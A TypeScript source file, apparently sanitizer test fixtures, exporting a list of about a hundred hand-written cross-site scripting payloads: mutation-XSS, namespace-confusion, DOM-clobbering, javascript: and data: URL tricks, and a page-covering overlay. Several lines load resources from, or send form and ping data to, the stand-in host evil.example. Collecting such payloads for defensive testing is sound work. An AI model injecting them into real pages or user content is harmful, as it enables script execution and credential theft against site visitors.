/** Known attacks on cleaners and pages, written by hand; each tries to run `alert(1)`, to set `window.pwned` or to reach another site. */
export const CLASSICS: readonly string[] = `
<script>alert(1)</script>
<script src=data:,alert(1)></script>
<script type=module>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src=x:x onerror=alert\`1\`>
<img src=/uploads/none.webp onerror=alert(1)>
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert&#40;1)</script>
<svg><script href=data:,alert(1)></script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><set onbegin=alert(1) attributeName=x></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x">
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
<math href="javascript:alert(1)">x</math>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=top.alert(1)&gt;"></iframe>
<iframe onload=alert(1)></iframe>
<object data=javascript:alert(1)></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=javascript:alert(1)>
<embed src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=alert(1)>">
<a href="javas&Tab;cript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>" target=_top>x</a>
<area href=javascript:alert(1)>
<form action=javascript:alert(1)><button>x</button></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<p contenteditable autofocus onfocus=alert(1)>x</p>
<details open ontoggle=alert(1)>x</details>
<video onloadstart=alert(1) src=/media/none.mp4></video>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<marquee onstart=alert(1)>x</marquee>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p>
<style>@import"//evil.example/x.css";</style>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=data:text/html,<script>alert(1)</script>>
<base href=//evil.example/><img src=a.png>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=Content-Security-Policy content="script-src *">
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<div><template shadowrootmode=open><script>alert(1)</script></template></div>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><style></title><img src=x onerror=alert(1)></style>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><g title="</style><img src=x onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<svg><title><template><style></title><img src=x onerror=alert(1)></style></template></svg>
<table><a href="/a"><table><tr><td><a href="/b"><style><!--</style></a><img src=x onerror=alert(1)>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x onerror=alert(1) src=x>">
<a id=alert><a id=alert name=x href=/x>x</a>
<form name=body><input name=firstChild></form>
<img name=getElementById src=/uploads/a.webp><form id=cookie>
<!--><img src=x onerror=alert(1)>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<p title="\`onmouseover=alert(1)">x</p>
<img src="\`><img src=x onerror=alert(1)>\`">
<a href="//evil.example" ping="//evil.example/p">x</a>
<img srcset="x 1x" src=x onerror=alert(1) sizes=1>
<picture><source srcset=x onerror=alert(1)><img onerror=alert(1) src=x></picture>
<isindex type=image src=1 onerror=alert(1)>
<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>y</p>
<p oncontentvisibilityautostatechange=alert(1) style="display:block;content-visibility:auto">x</p>
<div style="position:fixed;inset:0;z-index:99999"><a href="/x">all over the page</a></div>
<script/src="data:,alert(1)"></script>
<<script>alert(1)//<</script>
<img/src="/uploads/a.webp"/onload=alert(1)>
<img src="/uploads/a.webp"onerror="alert(1)">
<img """><script>alert(1)</script>">
<img src="javascript:alert(1)">
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img src="/uploads/../admin/x.png">
<img src="//evil.example/x.png">
<img src="http://evil.example/x.png">
<image src="/uploads/a.webp" onerror=alert(1)>
<p style="background:url(javascript:alert(1));width:expression(alert(1))">x</p>
<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>
<video src="javascript:alert(1)" onerror=alert(1)><source onerror=alert(1)></video>
<video controls src="/media/a.mp4" poster="javascript:alert(1)" autoplay onplay=alert(1)></video>
<a href="/x" ping="//evil.example" id="__proto__" name="constructor" download>x</a>
<constructor>x</constructor><__proto__ onclick=alert(1)>x</__proto__><hasownproperty>x
<p class="constructor __proto__ toString admin-panel">x</p>
<noframes><style></noframes><img src=x onerror=alert(1)></style>
<select><style><img src=x onerror=alert(1)></style></select><select><iframe><img src=x onerror=alert(1)>
<template><script>alert(1)</script><img src=x onerror=alert(1)></template>
<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>
<?xml <img src=x onerror=alert(1)>?>`
  .trim()
  .split('\n');
